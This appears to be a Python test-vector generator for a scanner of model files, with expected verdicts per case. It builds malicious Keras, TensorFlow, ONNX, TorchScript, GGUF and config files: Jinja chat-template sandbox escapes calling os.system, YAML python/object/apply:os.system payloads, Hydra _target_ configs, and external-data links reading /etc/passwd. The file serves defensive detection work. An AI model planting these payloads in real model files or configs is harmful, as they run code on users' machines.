"""Vectors that are models' own formats: configurations, graphs and templates that have a loader call, read or fetch something."""

import io
import json
import pickle
import struct
import zipfile

import pickles
from attack import COMMAND, EXPRESSION, FIRED, Table
from attack_files import of_bytes, safetensors, zip_of
from attack_pickles import BENIGN, SYSTEM
from pickles import call, global_, proto, reduce, unicode

ATTACKS = Table()
DATA, TEXT = ATTACKS.data, ATTACKS.text
CODE = ("code", "malicious")
NEVER_CLEAN = ("code", "malicious", "unreadable")


def layer(name, config=None, module="keras.layers", **more):
    return {"module": module, "class_name": name, "config": config or {}, **more}


def sequential(*layers, **more):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": list(layers)}, "registered_name": None, **more}


LAMBDA = layer("Lambda", {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wA=", "defaults": None, "closure": None}}})
DENSE = layer("Dense", {"name": "d", "units": 1})


def _keras(config):
    def make():
        import io

        import h5py

        weights = io.BytesIO()
        with h5py.File(weights, "w") as file:
            file.create_group("layers")
        return zip_of([("metadata.json", '{"keras_version": "3.15.1", "date_saved": "x"}'), ("config.json", json.dumps(config)), ("model.weights.h5", weights.getvalue())])

    return make


def _keras_h5(attributes):
    def make():
        import io

        import h5py

        buffer = io.BytesIO()
        with h5py.File(buffer, "w") as file:
            for name, value in attributes.items():
                file.attrs[name] = value if isinstance(value, str) else json.dumps(value)
            file.create_group("model_weights").attrs["layer_names"] = []
        return buffer.getvalue()

    return make


def keras(name, config, verdicts=CODE, fire=""):
    DATA(f"nested-config/keras_{name}", _keras(config), "model.keras", verdicts, fire)


def keras_h5(name, attributes, verdicts=CODE, fire=""):
    DATA(f"nested-config/h5_{name}", _keras_h5(attributes), "model.h5", verdicts, fire)


keras("lambda", sequential(DENSE, LAMBDA))
keras("lambda_in_a_model", sequential(sequential(sequential(LAMBDA))))
keras("lambda_in_a_wrapper", sequential(layer("TimeDistributed", {"layer": LAMBDA})))
keras("lambda_in_both_directions", sequential(layer("Bidirectional", {"layer": DENSE, "backward_layer": LAMBDA})))
keras("lambda_in_a_custom_layer", sequential(layer("Mine", {"inner": {"deep": [LAMBDA]}}, "my_module", registered_name="mine>Mine")))
keras("lambda_as_an_initializer", sequential(layer("Dense", {"units": 1, "kernel_initializer": LAMBDA})))
keras("lambda_in_the_compiler", sequential(DENSE, compile_config={"loss": LAMBDA}))
keras("import", sequential(layer("system", {"command": COMMAND}, "os")), ("malicious",))
keras("import_in_a_model", sequential(sequential(layer("Popen", {"args": "x"}, "subprocess"))), ("malicious",))
keras("function_of_a_module", sequential(layer("Dense", {"units": 1, "activation": {"module": "os", "class_name": "function", "config": "system"}})), ("malicious",))
keras("function_of_builtins", sequential(layer("Dense", {"units": 1, "activation": {"module": "builtins", "class_name": "function", "config": "eval"}})), ("malicious",))
keras("function_of_a_loss", sequential(DENSE, compile_config={"loss": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}}), ("malicious",))
keras("function_of_keras", sequential(layer("Dense", {"units": 1, "activation": {"module": "keras.utils", "class_name": "function", "config": "get_file"}})), ("malicious",))
keras("registered_name", sequential(layer("Dense", {"units": 1}, "my_module", registered_name="my_package>Dense")))
keras("known_name_of_a_stranger", sequential(layer("Dense", {"units": 1}, "evil.layers", registered_name="Dense")))
keras("known_name_in_builtins", sequential(layer("Dense", {"units": 1}, "builtins")))
keras("saved_model", sequential(layer("TFSMLayer", {"filepath": "./other"})))
keras("torch_module", sequential(layer("TorchModuleWrapper", {"module": "x"})))
keras("vocabulary", sequential(layer("StringLookup", {"vocabulary": "/etc/passwd"})))
keras("vocabulary_by_address", sequential(layer("TextVectorization", {"vocabulary": "http://example.com/x"})))
keras("weights_by_address", sequential(layer("Dense", {"units": 1, "kernel_initializer": "https://example.com/x"})))
keras("unknown_layer", sequential(layer("Hidden", {})))
keras("top_is_a_lambda", LAMBDA)
keras("safe_mode_off", sequential(layer("Functional", {"safe_mode": False, "layers": [LAMBDA]}, "keras.src.models.functional")))
keras("bytes_of_a_call", sequential(layer("Dense", {"units": 1, "activation": {"class_name": "__lambda__", "config": {"code": "4wA="}}})))
DATA("nested-config/keras_key_twice", lambda: zip_of([("metadata.json", "{}"), ("config.json", json.dumps(sequential(DENSE))[:-1] + ', "class_name": "Lambda"}'), ("model.weights.h5", b"")]), "model.keras", NEVER_CLEAN)
DATA("nested-config/keras_second_config", lambda: zip_of([("metadata.json", "{}"), ("config.json", json.dumps(sequential(DENSE))), ("config.json", json.dumps(sequential(LAMBDA)))]), "model.keras", NEVER_CLEAN)
DATA("nested-config/keras_asset", lambda: zip_of([("metadata.json", "{}"), ("config.json", json.dumps(sequential(DENSE))), ("assets/x.pkl", SYSTEM)]), "model.keras", NEVER_CLEAN)
DATA("nested-config/keras_escaping_asset", lambda: zip_of([("metadata.json", "{}"), ("config.json", json.dumps(sequential(DENSE))), ("assets/../../x", b"x")]), "model.keras", NEVER_CLEAN)
keras_h5("lambda", {"model_config": sequential(LAMBDA), "keras_version": "2.9.0"})
keras_h5("lambda_of_keras2", {"model_config": {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": ["4wA=", None, None], "function_type": "lambda"}}]}}})
keras_h5("lambda_nested", {"model_config": sequential(sequential(layer("TimeDistributed", {"layer": LAMBDA})))})
keras_h5("function_by_name", {"model_config": {"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": "system", "function_type": "function", "module": "os"}}]}}})
keras_h5("training_config", {"model_config": sequential(DENSE), "training_config": {"loss": {"module": "os", "class_name": "function", "config": "system"}}})
keras_h5("custom_objects", {"model_config": sequential(layer("Hidden", {}, None))})
keras_h5("operator", {"model_config": {"class_name": "Model", "config": {"layers": [{"class_name": "TensorFlowOpLayer", "config": {"node_def": {"op": "ReadFile"}}}]}}})
keras_h5("function_of_tensorflow", {"model_config": {"class_name": "Model", "config": {"layers": [{"class_name": "TFOpLambda", "config": {"function": "io.read_file"}}]}}})
DATA("nested-config/architecture_alone", json.dumps(sequential(LAMBDA)).encode(), "model.json", CODE)
DATA("nested-config/architecture_in_yaml", b"backend: tensorflow\nclass_name: Sequential\nconfig:\n  - class_name: Lambda\n    config: {function: !!python/object/apply:os.system ['echo > fired']}\n", "model.yaml", fire="yaml")


@ATTACKS.made("nested-config/h5_external_link", NEVER_CLEAN)
def _(folder):
    import h5py

    with h5py.File(folder / "model.h5", "w") as file:
        file["w"] = h5py.ExternalLink("/etc/passwd", "/x")
    return folder / "model.h5"


@ATTACKS.made("nested-config/h5_external_storage", NEVER_CLEAN)
def _(folder):
    import h5py

    with h5py.File(folder / "model.h5", "w") as file:
        file.create_dataset("w", (8,), "u1", external=[("/etc/passwd", 0, 8)])
    return folder / "model.h5"


@ATTACKS.made("nested-config/h5_virtual", NEVER_CLEAN)
def _(folder):
    import h5py

    layout = h5py.VirtualLayout(shape=(4,), dtype="f4")
    layout[:] = h5py.VirtualSource("/etc/passwd", "x", shape=(4,))
    with h5py.File(folder / "model.h5", "w") as file:
        file.create_virtual_dataset("w", layout)
    return folder / "model.h5"


# --- TensorFlow's graphs ---------------------------------------------------------------------------------------------------------
def savedmodel(name, verdicts=CODE, fire=""):
    """A function of one number whose graph does more; `build(tf, x)` is called while it is traced."""

    def put(build):
        def make(folder):
            import os

            os.environ["TF_CPP_MIN_LOG_LEVEL"] = "3"
            import tensorflow as tf

            module = tf.Module()
            module.v = tf.Variable(1.0)
            module.f = tf.function(lambda x: build(tf, x), input_signature=[tf.TensorSpec([], tf.float32)])
            tf.saved_model.save(module, str(folder / "model"))
            return folder / "model"

        ATTACKS.made(f"nested-config/tf_{name}", verdicts, fire)(make)
        return build

    return put


@savedmodel("write_file", ("malicious", "code"), "savedmodel")
def _(tf, x):
    tf.io.write_file(FIRED, "x")
    return x


@savedmodel("read_file", CODE)
def _(tf, x):
    return x + tf.cast(tf.strings.length(tf.io.read_file("/etc/passwd")), tf.float32)


@savedmodel("in_a_branch", CODE)
def _(tf, x):
    return tf.cond(x > 0, lambda: tf.cast(tf.strings.length(tf.io.read_file("/etc/passwd")), tf.float32), lambda: x)


@savedmodel("in_a_loop", CODE)
def _(tf, x):
    return tf.while_loop(lambda i: i < 3.0, lambda i: [i + tf.cast(tf.strings.length(tf.io.read_file("/etc/passwd")), tf.float32)], [x])[0]


@savedmodel("in_a_dataset", CODE)
def _(tf, x):
    data = tf.data.Dataset.from_tensors(x).map(lambda y: y + tf.cast(tf.strings.length(tf.io.read_file("/etc/passwd")), tf.float32))
    return data.reduce(0.0, lambda a, b: a + b)


@savedmodel("matching_files", CODE)
def _(tf, x):
    return x + tf.cast(tf.size(tf.io.matching_files("/etc/*")), tf.float32)


@savedmodel("python", CODE)
def _(tf, x):
    return tf.py_function(lambda y: y, [x], tf.float32)


@savedmodel("save_elsewhere", CODE)
def _(tf, x):
    tf.raw_ops.SaveV2(prefix=FIRED, tensor_names=["x"], shape_and_slices=[""], tensors=[x])
    return x


@savedmodel("text_lines", CODE)
def _(tf, x):
    return tf.data.TextLineDataset(["/etc/passwd"]).reduce(0.0, lambda a, _: a + 1.0) + x


@savedmodel("print_to_a_file", CODE)
def _(tf, x):
    tf.print(x, output_stream=f"file://{FIRED}")
    return x


# --- ONNX, TFLite, TorchScript -----------------------------------------------------------------------------------------------------
def onnx_model(node=None, functions=(), external=None, imports=(), body=None):
    import onnx
    from onnx import helper

    x, y = (helper.make_tensor_value_info(name, 1, [1]) for name in "xy")
    node = node or helper.make_node("Identity", ["x"], ["y"])
    initializers = []
    if external is not None:
        weight = onnx.TensorProto(name="w", data_type=1, dims=[1], data_location=onnx.TensorProto.EXTERNAL)
        for key, value in external.items():
            weight.external_data.add(key=key, value=value)
        initializers = [weight]
    graph = helper.make_graph([node], "g", [x], [y], initializers)
    opsets = [helper.make_opsetid("", 17), *(helper.make_opsetid(name, 1) for name in imports)]
    return helper.make_model(graph, functions=list(functions), opset_imports=opsets)


def onnx(name, verdicts=NEVER_CLEAN, fire="", **options):
    def make(folder):
        from onnx import helper

        built = {key: value(helper) if callable(value) else value for key, value in options.items()}
        (folder / "model.onnx").write_bytes(onnx_model(**built).SerializeToString())
        return folder / "model.onnx"

    ATTACKS.made(f"nested-config/onnx_{name}", verdicts, fire)(make)


def _branch(helper, node):
    import onnx as package

    def graph(inner):
        return helper.make_graph([inner], "b", [], [helper.make_tensor_value_info("b", 1, [1])])

    condition = helper.make_tensor("c", package.TensorProto.BOOL, [], [1])
    del condition
    return helper.make_node("If", ["x"], ["y"], then_branch=graph(node), else_branch=graph(helper.make_node("Identity", ["x"], ["b"])))


onnx("custom_operator", node=lambda h: h.make_node("System", ["x"], ["y"], domain="evil"), imports=("evil",))
onnx("python_operator", node=lambda h: h.make_node("PyOp", ["x"], ["y"], domain="com.microsoft.extensions"), imports=("com.microsoft.extensions",))
onnx("operator_unknown_to_onnx", node=lambda h: h.make_node("PythonOp", ["x"], ["y"]))
onnx("operator_unknown_to_onnx_ml", node=lambda h: h.make_node("System", ["x"], ["y"], domain="ai.onnx.ml"), imports=("ai.onnx.ml",))
onnx("in_a_branch", node=lambda h: _branch(h, h.make_node("System", ["x"], ["b"], domain="evil")), imports=("evil",))
onnx("of_another_overload", functions=lambda h: [h.make_function("mine", "F", ["a"], ["b"], [h.make_node("Relu", ["a"], ["b"])], [h.make_opsetid("", 17)], overload="one")], node=lambda h: h.make_node("F", ["x"], ["y"], domain="mine", overload="other"), imports=("mine",))
onnx("in_a_function", functions=lambda h: [h.make_function("mine", "F", ["a"], ["b"], [h.make_node("System", ["a"], ["b"], domain="evil")], [h.make_opsetid("evil", 1)])], node=lambda h: h.make_node("F", ["x"], ["y"], domain="mine"), imports=("mine", "evil"))
for _name, _location in {"absolute": "/etc/passwd", "parent": "../../etc/passwd", "inner_parent": "a/../../x", "url": "http://example.com/x", "missing": "gone.bin"}.items():
    onnx(f"external_{_name}", external={"location": _location, "offset": "0", "length": "4"})
onnx("external_beyond", external={"location": "model.onnx", "offset": "0", "length": "99999999"})


@ATTACKS.made("nested-config/onnx_external_link", NEVER_CLEAN)
def _(folder):
    (folder / "m").mkdir()
    (folder / "m" / "w.bin").symlink_to("/etc/passwd")
    (folder / "m" / "model.onnx").write_bytes(onnx_model(external={"location": "w.bin", "offset": "0", "length": "4"}).SerializeToString())
    return folder / "m" / "model.onnx"


def script(name, verdicts=NEVER_CLEAN, **options):
    def put(source):
        def make(folder):
            import torch

            class Net(torch.nn.Module):
                def forward(self, x):
                    return x

            torch.jit.save(torch.jit.script(Net()), folder / "a.pt")
            files = []
            with zipfile.ZipFile(folder / "a.pt") as archive:
                for info in archive.infolist():
                    data = archive.read(info)
                    if info.filename.endswith(".py"):
                        data = data.replace(b"return x", source)
                    files.append((info.filename, data))
            files += options.get("more", [])
            (folder / "model.pt").write_bytes(zip_of([(name, data) for name, data in files if not name.endswith(".debug_pkl")]))
            (folder / "a.pt").unlink()
            return folder / "model.pt"

        ATTACKS.made(f"nested-config/script_{name}", verdicts)(make)

    return put


script("from_file")(b'return torch.from_file("/etc/passwd", False, 4)')
script("save")(b'torch.save(x, "fired")\n    return x')
script("library")(b"return ops.evil.system(x)")
script("class_of_a_library")(b"return __torch__.torch.classes.evil.Shell(x)")
script("extra_pickle", more=[("a/extra/x.pkl", SYSTEM)])(b"return x")


# --- GGUF, templates ---------------------------------------------------------------------------------------------------------------
def gguf(entries):
    def text(value):
        return struct.pack("<Q", len(value.encode())) + value.encode()

    body = b"".join(text(key) + struct.pack("<I", 8) + text(value) for key, value in entries.items())
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(entries)) + body


TEMPLATES = {
    "globals": "{{ cycler.__init__.__globals__.os.popen('echo > fired').read() }}",
    "joiner": "{% set x = joiner['__init__']['__globals__']['os'] %}{{ x.system('echo > fired') }}",
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "attr": "{{ (cycler|attr('__init__')|attr('__globals__'))['os'].system('echo > fired') }}",
    "computed_attr": "{{ (cycler|attr('__in' ~ 'it__')|attr('__glo' + 'bals__'))['o'+'s']['system']('echo > fired') }}",
    "computed_item": "{{ cycler['__in' ~ 'it__']['__globals' ~ '__']['os']['system']('echo > fired') }}",
    "escaped": "{{ cycler['\\x5f\\x5finit\\x5f\\x5f']['\\u005f\\u005fglobals__']['os']['system']('echo > fired') }}",
    "joined": "{{ cycler|attr(['__init','__']|join)|attr(['__glob','als__']|join) }}",
    "formatted": "{{ cycler|attr('%s%sinit__'|format('_', '_')) }}",
    "in_a_set": "{% set a = 'x' %}{%- if true -%}{{ lipsum.__globals__['os'].system('echo > fired') }}{%- endif -%}",
    "in_a_loop": "{% for m in messages %}{{ m }}{% endfor %}{{ namespace.__init__.__globals__ }}",
    "in_a_macro": "{% macro f() %}{{ self.__init__.__globals__ }}{% endmacro %}{{ f() }}",
    "import": "{% import '/etc/passwd' as x %}",
    "include": "{% include '../../secret' %}",
    "split_over_lines": "{{\ncycler\n.\n__init__\n.__globals__['os']\n.system('echo > fired')\n}}",
    "behind_a_comment": "{# }} #}{{ cycler.__init__.__globals__.os.system('echo > fired') }}",
    "behind_a_text_with_an_end": "{{ '}}' }}{{ cycler.__init__.__globals__.os.system('echo > fired') }}",
    "in_a_text_with_an_end": "{{ '}}' ~ cycler.__init__.__globals__.os.system('echo > fired') }}",
    "behind_raw": "{% raw %}{# {% endraw %}{{ cycler.__init__.__globals__.os.system('echo > fired') }}",
    "map_of_attributes": "{{ [cycler]|map(attribute='__init__')|map(attribute='__globals__')|list }}",
    "sum_of_attributes": "{{ [cycler]|sum(attribute='__init__.__globals__') }}",
}
FIRING = {"globals", "joiner", "attr", "escaped", "in_a_set", "split_over_lines", "behind_a_comment", "behind_a_text_with_an_end", "in_a_text_with_an_end", "behind_raw", "computed_attr", "computed_item"}
for _name, _template in TEMPLATES.items():
    TEXT(f"code-by-reference/template_{_name}", _template, "chat_template.jinja", NEVER_CLEAN, "jinja" if _name in FIRING else "")
    DATA(f"code-by-reference/gguf_template_{_name}", gguf({"general.architecture": "llama", "tokenizer.chat_template": _template}), "model.gguf", NEVER_CLEAN)
    TEXT(f"code-by-reference/tokenizer_template_{_name}", json.dumps({"chat_template": _template}), "tokenizer_config.json", NEVER_CLEAN)
TEXT("code-by-reference/template_in_a_list", json.dumps({"chat_template": [{"name": "tool", "template": TEMPLATES["globals"]}]}), "tokenizer_config.json", NEVER_CLEAN)
TEXT("code-by-reference/template_of_a_processor", json.dumps({"chat_template": TEMPLATES["globals"]}), "chat_template.json", NEVER_CLEAN)
DATA("code-by-reference/gguf_named_template", gguf({"general.architecture": "llama", "tokenizer.chat_template.tool_use": TEMPLATES["globals"]}), "model.gguf", NEVER_CLEAN)


# --- Names of code -----------------------------------------------------------------------------------------------------------------
def config(name, document, file="config.json", verdicts=CODE, fire=""):
    TEXT(f"code-by-reference/{name}", document if isinstance(document, str) else json.dumps(document), file, verdicts, fire)


config("auto_map", {"model_type": "x", "auto_map": {"AutoConfig": "configuration_x.Config"}})
config("auto_map_of_another_repository", {"auto_map": {"AutoModel": "who/what--modeling.Model"}})
config("auto_map_of_a_list", {"auto_map": {"AutoTokenizer": ["tokenization.Tok", None]}}, "tokenizer_config.json")
config("auto_map_nested", {"text_config": {"auto_map": {"AutoModel": "x.Y"}}})
config("auto_map_of_a_processor", {"auto_map": {"AutoProcessor": "processing.P"}}, "preprocessor_config.json")
config("auto_map_by_escapes", '{"auto\\u005fmap": {"AutoModel": "x.Y"}}')
config("auto_map_twice", '{"auto_map": {}, "auto_map": {"AutoModel": "x.Y"}}', verdicts=NEVER_CLEAN)
config("custom_pipelines", {"custom_pipelines": {"x": {"impl": "pipe.P"}}})
config("class_of_a_file", {"_class_name": ["my_pipeline", "MyPipeline"]}, "model_index.json")
config("parent_library", {"auto_mapping": {"base_model_class": "system", "parent_library": "os"}}, "adapter_config.json")
config("parent_library_of_a_stranger", {"auto_mapping": {"base_model_class": "Model", "parent_library": "evil"}}, "adapter_config.json")
config("kernel", {"model_type": "llama", "attn_implementation": "who/kernel"})
config("sentence_module", [{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}], "modules.json")
config("sentence_module_of_python", [{"idx": 0, "name": "0", "path": "", "type": "os.system"}], "modules.json")
config("sentence_activation", {"in_features": 1, "activation_function": "evil.run"})
config("target_in_json", {"a": [{"_target_": "os.system", "command": COMMAND}]}, "conf.json", fire="hydra")
config("target_in_json_twice", '{"_target_": "os.system", "_target_": "os.system", "command": "echo > fired"}', "conf.json", fire="hydra")
config("target_in_json_with_a_comma", '{"_target_": "os.system", "command": "echo > fired",}', "conf.json", fire="hydra")
config("target", f"model:\n  _target_: os.system\n  command: {COMMAND}\n", "conf.yaml", ("malicious",), "hydra")
for _name, _yaml in {
    "flow": "model: {_target_: os.system, command: 'echo > fired'}\n",
    "flow_in_a_list": "- [{a: 1}, {_target_: os.system, command: 'echo > fired'}]\n",
    "quoted": '"_target_": os.system\ncommand: "echo > fired"\n',
    "quoted_value": "_target_: 'os.system'\ncommand: echo > fired\n",
    "escaped": '"\\x5ftarget\\u005f": "os\\x2esystem"\ncommand: echo > fired\n',
    "single_quoted": "'_target_' : os.system\ncommand: echo > fired\n",
    "question_mark": "? _target_\n: os.system\n? command\n: echo > fired\n",
    "on_the_next_line": "_target_:\n  os.system\ncommand: echo > fired\n",
    "blank_before_the_colon": "_target_ : os.system\ncommand: echo > fired\n",
    "folded": "_target_: >-\n  os.system\ncommand: echo > fired\n",
    "literal": "_target_: |-\n  os.system\ncommand: echo > fired\n",
    "alias": "x: &a os.system\nm: {_target_: *a, command: echo > fired}\n",
    "alias_of_the_key": "x: &k _target_\nm:\n  *k : os.system\n  command: echo > fired\n",
    "tagged": "_target_: !!str os.system\ncommand: echo > fired\n",
    "anchored": "_target_: &t os.system\ncommand: echo > fired\n",
    "behind_a_carriage_return": "# a comment\r_target_: os.system\rcommand: echo > fired\r",
    "behind_a_line_separator": "# a comment\u2028_target_: os.system\ncommand: echo > fired\n",
    "behind_an_apostrophe": "name: it's # here\nm:\n  _target_: os.system\n  command: echo > fired\n",
    "behind_a_long_text": 'a: "x\n  # y"\nm:\n  _target_: os.system\n  command: echo > fired\n',
    "behind_a_literal": "a: |\n  _target_: x\nm:\n  _target_: os.system\n  command: echo > fired\n",
    "behind_a_plain_text": "a: x\n  'y\nm:\n  _target_: os.system\n  command: echo > fired\n",
    "json_in_yaml": '{"_target_": "os.system", "command": "echo > fired"}',
    "merged": "x: &b {_target_: os.system, command: echo > fired}\ny: {<<: *b}\n",
    "tabs": "_target_:\tos.system\ncommand:\techo > fired\n",
    "comment_between": "_target_: # what is called\n  os.system\ncommand: echo > fired\n",
}.items():
    # PyYAML takes no tabs there; other parsers do.
    config(f"target_{_name}", _yaml, "conf.yaml", ("malicious",), "" if _name == "tabs" else "hydra")
config("target_of_a_stranger", "_target_: evil.Model\n", "conf.yml")
config("target_under_capitals", "_target_: evil.Model\n", "CONF.YAML")
for _name, _yaml in {
    "apply": "a: !!python/object/apply:os.system ['echo > fired']\n",
    "new": "a: !!python/object/new:os.system ['echo > fired']\n",
    "verbatim": "a: !<tag:yaml.org,2002:python/object/apply:os.system> ['echo > fired']\n",
    "handle": "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['echo > fired']\n",
    "primary_handle": "%TAG ! tag:yaml.org,2002:python/object/\n---\na: !apply:os.system ['echo > fired']\n",
    "secondary_handle": "%TAG !! tag:yaml.org,2002:python/\n---\na: !!object/apply:os.system ['echo > fired']\n",
    "escaped": "a: !!%70ython/object/apply:os.system ['echo > fired']\n",
    "escaped_verbatim": "a: !<tag:yaml.org,2002:%70ython/object/apply:os.system> ['echo > fired']\n",
    "flow": "{a: !!python/object/apply:os.system ['echo > fired']}\n",
    "behind_a_comment": "# x\r!!python/object/apply:os.system ['echo > fired']\n",
    "behind_a_long_text": '{a: "x\n # y", b: !!python/object/apply:os.system ["echo > fired"]}\n',
    "behind_a_hash": "{a: x#y, b: !!python/object/apply:os.system ['echo > fired']}\n",
    "in_a_key": "? !!python/object/apply:os.system ['echo > fired']\n: x\n",
    "anchored": "a: &x !!python/object/apply:os.system ['echo > fired']\n",
    "with_keywords": "a: !!python/object/apply:os.system {kwds: {command: 'echo > fired'}}\n",
    "second_document": "a: 1\n--- !!python/object/apply:os.system ['echo > fired']\n",
    "behind_a_plain_text": "a: x\n  'y\nb: !!python/object/apply:os.system ['echo > fired']\n",
    "on_a_line_of_its_own": "a:\n  !!python/object/apply:os.system\n  - echo > fired\n",
    "alone": "!!python/object/apply:os.system ['echo > fired']",
    "speechbrain": "a: !apply:os.system ['echo > fired']\n",
    "speechbrain_new": "a: !new:subprocess.Popen ['x']\n",
}.items():
    config(f"yaml_{_name}", _yaml, "hyperparams.yaml", ("malicious",), "" if _name.startswith(("speechbrain", "second")) else "yaml")
config("yaml_name", "a: !!python/name:os.system\n", "conf.yaml")
config("yaml_module", "a: !!python/module:antigravity\n", "conf.yaml")
config("yaml_stranger", "a: !!python/object:evil.Model {x: 1}\n", "conf.yaml")
config("yaml_speechbrain_stranger", "a: !new:evil.Model\n", "hyperparams.yaml")
config("mlflow", "flavors:\n  python_function:\n    loader_module: evil\n    code: code\n", "MLmodel")
config("hub_entry", "def net(**options): open('fired', 'w')\n", "hubconf.py")
config("endpoint", "class EndpointHandler: pass\n", "handler.py")


repository = ATTACKS.repository
MODEL = of_bytes(b"abcd")
REMOTE = "import transformers\nopen('fired', 'w')\nclass C(transformers.PretrainedConfig): model_type = 'mine'\n"
repository("folder_auto_map", {"config.json": '{"model_type": "mine", "auto_map": {"AutoConfig": "c.C"}}', "c.py": REMOTE, "model.safetensors": MODEL}, fire="remote_code")
repository("folder_hub", {"hubconf.py": "dependencies = []\nopen('fired', 'w')\ndef net(): pass\n", "model.safetensors": MODEL}, fire="hub")
repository("folder_metadata_of_dcp", {"__0_0.distcp": b"x", ".metadata": SYSTEM}, ("malicious",))
repository("folder_metadata_behind_weights", {"model.safetensors": MODEL, "checkpoint/.metadata": SYSTEM}, ("malicious",))
repository("folder_training_args", {"model.safetensors": MODEL, "training_args.bin": SYSTEM}, ("malicious",))
repository("folder_optimizer", {"model.safetensors": MODEL, "a/b/optimizer.pt": SYSTEM}, ("malicious",))
repository("folder_hidden", {"model.safetensors": MODEL, ".cache/x": SYSTEM}, ("malicious",))
repository("folder_wrong_index", {"model.safetensors": MODEL, "pytorch_model.bin.index.json": json.dumps({"metadata": {}, "weight_map": {"a": "../../x.bin"}})}, NEVER_CLEAN)
repository("folder_generate", {"model.safetensors": MODEL, "config.json": "{}", "custom_generate/generate.py": "def generate(model, **o): open('fired', 'w')\n"})
repository("folder_native", {"model.safetensors": MODEL, "ops.so": b"\x7fELF\x02\x01\x01" + bytes(57)})
repository("folder_mlflow", {"MLmodel": "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n", "model.pkl": SYSTEM}, ("malicious",))
repository("folder_nemo", {"model_config.yaml": "target: x\n_target_: os.system\n", "model_weights.ckpt": BENIGN})
repository("folder_sentence_transformers", {"modules.json": json.dumps([{"idx": 0, "name": "0", "path": "", "type": "mine.Module"}]), "mine.py": "x = 1\n", "model.safetensors": MODEL})


def checkpoint(name, make, fire="dcp"):
    """A folder of torch.distributed.checkpoint: make() gives the bytes of its file and where the entry "a" lies, as (file, offset, length)."""

    @ATTACKS.made(f"code-by-reference/folder_dcp_{name}", ("malicious",), fire)
    def _(folder):
        from torch.distributed.checkpoint import filesystem, metadata

        data, place = make()
        index = metadata.Metadata({"a": metadata.BytesStorageMetadata()}, {"a": ("a",)}, {metadata.MetadataIndex("a"): filesystem._StorageInfo(*place)})
        (folder / "repository").mkdir()
        (folder / "repository" / "__0_0.distcp").write_bytes(data)
        (folder / "repository" / ".metadata").write_bytes(pickle.dumps(index))
        (folder / "outside").write_bytes(SYSTEM)
        return folder / "repository"


def _chunk(value):
    import torch

    file = io.BytesIO()
    torch.save(value, file)
    return file.getvalue()


def _in_second():
    first, second = _chunk({"b": 1}), pickles.zipped(SYSTEM, [("byteorder", b"little")])
    return first + second, ("__0_0.distcp", len(first), len(second))


def _within_a_tensor():
    import torch

    data = _chunk(torch.frombuffer(bytearray(SYSTEM), dtype=torch.uint8).clone())
    return data, ("__0_0.distcp", data.index(SYSTEM), len(SYSTEM))


checkpoint("second_chunk", _in_second)
checkpoint("within_a_tensor", _within_a_tensor)
checkpoint("outside", lambda: (_chunk(1), ("../outside", 0, len(SYSTEM))))
DATA("code-by-reference/skops", lambda: zip_of([("schema.json", json.dumps({"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}, "protocol": 1}))]), "model.skops", NEVER_CLEAN)
DATA("code-by-reference/skops_method", lambda: zip_of([("schema.json", json.dumps({"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [{"__class__": "x", "__module__": "operator", "__loader__": "OperatorFuncNode", "attrs": {}}], "protocol": 1}))]), "model.skops", NEVER_CLEAN)
